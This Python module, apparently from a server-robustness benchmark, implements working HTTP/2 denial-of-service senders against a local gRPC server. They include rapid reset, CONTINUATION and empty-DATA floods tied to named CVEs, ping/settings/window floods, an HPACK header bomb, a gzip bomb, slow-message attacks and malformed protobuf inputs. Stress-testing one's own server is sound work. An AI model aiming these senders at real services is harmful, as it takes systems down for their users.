"""Senders of what no client of gRPC sends: HTTP/2 written by hand, bounded in count and time.

Each function is named for what it sends, takes the port of a server on 127.0.0.1, and returns when
it is done or the server has closed the connection, whichever comes first. A sender that has to
stay connected to do harm is a context: what it holds is closed at its end.
"""

from __future__ import annotations

import contextlib
import gzip
import os
import struct
import time
from collections.abc import Iterable, Iterator, Sequence

from bench.attacks.http2 import (
    CONTINUATION,
    DATA,
    INITIAL_WINDOW,
    PATIENCE_S,
    PING,
    RST_STREAM,
    WINDOW_UPDATE,
    Connection,
    begin,
    call,
    call_headers,
    data_frames,
    frame,
    literal,
    message,
    settings,
    text,
)


@contextlib.contextmanager
def _held(connections: Sequence[Connection]) -> Iterator[list[Connection]]:
    try:
        yield list(connections)
    finally:
        for connection in connections:
            connection.close()


@contextlib.contextmanager
def calls_without_message(
    port: int, calls: int = 512, each: int = 64
) -> Iterator[list[Connection]]:
    """Calls whose message never comes, `each` on a connection."""
    connections = [Connection(port) for _ in range(-(-calls // each))]
    with _held(connections):
        for connection in connections:
            connection.send(b"".join(begin(2 * number + 1) for number in range(each)))
        yield connections


@contextlib.contextmanager
def half_messages(port: int, calls: int = 256, each: int = 64) -> Iterator[list[Connection]]:
    """Calls that tell of a message of 60 MB and send its first bytes."""
    start = struct.pack(">BI", 0, 60_000_000) + bytes(64)
    connections = [Connection(port) for _ in range(-(-calls // each))]
    with _held(connections):
        for connection in connections:
            for number in range(each):
                stream = 2 * number + 1
                connection.send(begin(stream) + frame(DATA, 0, stream, start))
        yield connections


@contextlib.contextmanager
def unfinished_messages(
    port: int, calls: int = 32, each: int = 8, megabytes: int = 60
) -> Iterator[list[Connection]]:
    """Calls that send all of a large message but its last byte."""
    size = megabytes << 20
    data = struct.pack(">BI", 0, size + 1) + bytes(size)
    connections = [Connection(port) for _ in range(-(-calls // each))]
    with _held(connections):
        for connection in connections:
            for number in range(each):
                stream = 2 * number + 1
                if not connection.send(begin(stream)):
                    break
                if not connection.send_message(stream, data, last=False):
                    break
        yield connections


def drip(connections: Iterable[Connection], calls: int = 64) -> None:
    """One byte more for each call of `half_messages`."""
    for connection in connections:
        connection.send(b"".join(frame(DATA, 0, 2 * n + 1, b"\0") for n in range(calls)))


@contextlib.contextmanager
def silent_connections(port: int, count: int = 2000, preface: bool = False) -> Iterator[int]:
    """TCP connections that send nothing, or nothing but the preface; how many are open."""
    with contextlib.ExitStack() as stack:
        opened = 0
        for _ in range(count):
            try:
                connection = Connection(port, preface=preface)
            except OSError:
                continue
            stack.callback(connection.close)
            opened += 1
        yield opened


@contextlib.contextmanager
def answers_not_read(
    port: int, request: bytes, calls: int = 256, each: int = 64
) -> Iterator[list[Connection]]:
    """Whole calls on connections whose window takes no byte of an answer.

    request: the serialized message.
    """
    connections = [Connection(port, (INITIAL_WINDOW, 0)) for _ in range(-(-calls // each))]
    with _held(connections):
        for connection in connections:
            for number in range(each):
                stream = 2 * number + 1
                connection.send(begin(stream) + data_frames(stream, message(request)))
        yield connections


def rapid_reset(port: int, seconds: float = 3.0) -> int:
    """Calls that are cancelled in the same breath (CVE-2023-44487); how many hundreds."""

    def parts() -> Iterator[bytes]:
        stream = 1
        while stream < 2**31 - 400:
            streams = range(stream, stream + 200, 2)
            yield b"".join(
                begin(one) + frame(RST_STREAM, 0, one, struct.pack(">I", 8)) for one in streams
            )
            stream += 200

    return _once(Connection(port), parts(), seconds, reads=True)


def streams_flood(port: int, seconds: float = 3.0) -> int:
    """New calls without end and without regard for the server's limit; how many hundreds."""

    def parts() -> Iterator[bytes]:
        for stream in range(1, 2**31 - 400, 200):
            yield b"".join(begin(one) for one in range(stream, stream + 200, 2))

    return _once(Connection(port), parts(), seconds, reads=True)


def ping_flood(port: int, seconds: float = 3.0) -> int:
    """PINGs whose answers are never read; how many thousands."""
    part = frame(PING, 0, 0, bytes(8)) * 1000
    return _once(Connection(port), _endless(part), seconds)


def settings_flood(port: int, seconds: float = 3.0) -> int:
    """SETTINGS whose acknowledgements are never read; how many thousands."""
    part = settings((INITIAL_WINDOW, 65_535)) * 1000
    return _once(Connection(port), _endless(part), seconds)


def window_update_flood(port: int, seconds: float = 3.0) -> int:
    """WINDOW_UPDATEs of one byte on a call; how many thousands."""
    connection = Connection(port)
    connection.send(begin(1))
    part = frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 1000
    return _once(connection, _endless(part), seconds, reads=True)


def empty_data_flood(port: int, seconds: float = 3.0) -> int:
    """DATA frames without a byte on a call (CVE-2019-9518); how many thousands."""
    connection = Connection(port)
    connection.send(begin(1))
    return _once(connection, _endless(frame(DATA, 0, 1) * 1000), seconds, reads=True)


def continuation_flood(port: int, seconds: float = 3.0) -> int:
    """A header block that never ends (CVE-2024-27983); how many frames of 16 KB."""
    connection = Connection(port)
    connection.send(begin(1, flags=0))
    block = literal("x-" + "a" * 6, "b" * 16_000)
    return _once(connection, _endless(frame(CONTINUATION, 0, 1, block)), seconds, reads=True)


def header_bomb(port: int, seconds: float = 3.0) -> int:
    """Header blocks that name one large entry of the table over and over; how many calls."""
    entry = b"\x40" + text("x-bomb") + text("b" * 3900)
    first = call_headers() + entry

    def parts() -> Iterator[bytes]:
        yield begin(1, first)
        for stream in range(3, 2**31 - 2, 2):
            yield begin(stream, call_headers() + b"\xbe" * 16_000)

    return _once(Connection(port), parts(), seconds, reads=True)


def reset_after_request(port: int, request: bytes, seconds: float = 3.0) -> int:
    """Whole calls that are cancelled before their answer; how many."""

    def parts() -> Iterator[bytes]:
        for stream in range(1, 2**31 - 2, 2):
            yield (
                begin(stream)
                + data_frames(stream, message(request))
                + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            )

    return _once(Connection(port), parts(), seconds, reads=True)


def churn(port: int, seconds: float = 3.0) -> int:
    """Connections that are closed at once; how many."""
    end, made = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            Connection(port).close()
            made += 1
    return made


def garbage(port: int, seconds: float = 3.0) -> int:
    """Connections that send what is no HTTP/2, with and without the preface; how many."""
    end, made = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            connection = Connection(port, preface=bool(made % 2))
            connection.send(os.urandom(4096))
            connection.close()
            made += 1
    return made


def gzip_bomb(port: int, megabytes: int = 1500, seconds: float = PATIENCE_S) -> bytes:
    """A small message that unpacks to a large one; what the server answered, as it came."""
    packed = gzip.compress(bytes(megabytes << 20), 1)
    return call(port, message(packed, compressed=True), seconds, [("grpc-encoding", "gzip")])


def _endless(part: bytes) -> Iterator[bytes]:
    while True:
        yield part


def _once(
    connection: Connection, parts: Iterable[bytes], seconds: float, reads: bool = False
) -> int:
    try:
        return connection.flood(parts, seconds, reads)
    finally:
        connection.close()


# Bytes that are no `Request`, by what is wrong with them.
MALFORMED_MESSAGES = {
    "noise": b"\xff\xfe\xfd\xfc" * 8,
    "truncated": b"\x0a\x05image\x12\xff\xff\x03abc",
    "no utf-8": b"\x0a\x05image\x12\x02\xc3\x28",
    "endless number": b"\x30" + b"\xff" * 64,
    "field 0": b"\x02\x00",
    "groups in groups": b"\x4b" * 100_000,
    "length beyond 2**63": b"\x0a\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01",
}
